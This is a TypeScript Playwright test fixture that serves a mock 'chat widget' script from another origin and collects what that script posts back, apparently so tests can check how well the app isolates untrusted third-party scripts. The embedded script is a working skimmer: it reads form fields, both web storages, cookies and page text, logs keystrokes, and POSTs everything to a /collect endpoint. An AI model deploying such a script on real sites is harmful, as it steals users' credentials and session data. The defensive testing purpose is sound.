// The e2e chat widget: a hostile third-party script from another origin. It counts its loads and, like a skimmer,
// reads every field, both storages, the cookies and the page's text, listens to typing, and posts what it finds to
// its own origin; the fixtures route both and keep the findings per page.
import type { BrowserContext, Page } from "@playwright/test";
import { E2E_CHAT_ORIGIN, E2E_CHAT_SCRIPT_URL } from "./e2eEnv.ts";

const COLLECT_URL = `${E2E_CHAT_ORIGIN}/collect`;

const CHAT_SPY_SCRIPT = `
  window.__chatWidgetLoads = (window.__chatWidgetLoads || 0) + 1;
  window.__chatSawHydrated = document.documentElement.getAttribute("data-hydrated") === "true";
  window.__chatSawReadyState = document.readyState;
  (() => {
    const send = (what) =>
      fetch(${JSON.stringify(COLLECT_URL)}, { method: "POST", body: JSON.stringify({ page: location.pathname, ...what }) }).catch(() => {});
    const dump = (name) => { try { return JSON.stringify({ ...window[name] }); } catch { return ""; } };
    const look = () => send({
      fields: [...document.querySelectorAll("input, select, textarea")].map((field) => field.value).join(" "),
      session: dump("sessionStorage"),
      local: dump("localStorage"),
      cookie: document.cookie,
      text: document.body.innerText,
    });
    look();
    setInterval(look, 1000);
    document.addEventListener("input", (event) => send({ typed: event.target.value }), true);
  })();
`;

const findings = new WeakMap<BrowserContext, string[]>();

/** Serves the chat spy at the build's VITE_CHAT_SCRIPT_URL in every tab of the page's context, and collects its posts. */
export async function routeChatSpy(page: Page): Promise<void> {
  const context = page.context();
  if (findings.has(context)) return;
  const seen: string[] = [];
  findings.set(context, seen);
  await context.route(E2E_CHAT_SCRIPT_URL, (route) =>
    route.fulfill({ contentType: "text/javascript; charset=utf-8", body: CHAT_SPY_SCRIPT }),
  );
  await context.route(COLLECT_URL, (route) => {
    seen.push(route.request().postData() ?? "");
    return route.fulfill({ status: 204, headers: { "Access-Control-Allow-Origin": "*" } });
  });
}

/** Everything the chat spy has posted from the documents of this page's tabs so far, as JSON texts. */
export function chatFindings(page: Page): readonly string[] {
  return findings.get(page.context()) ?? [];
}
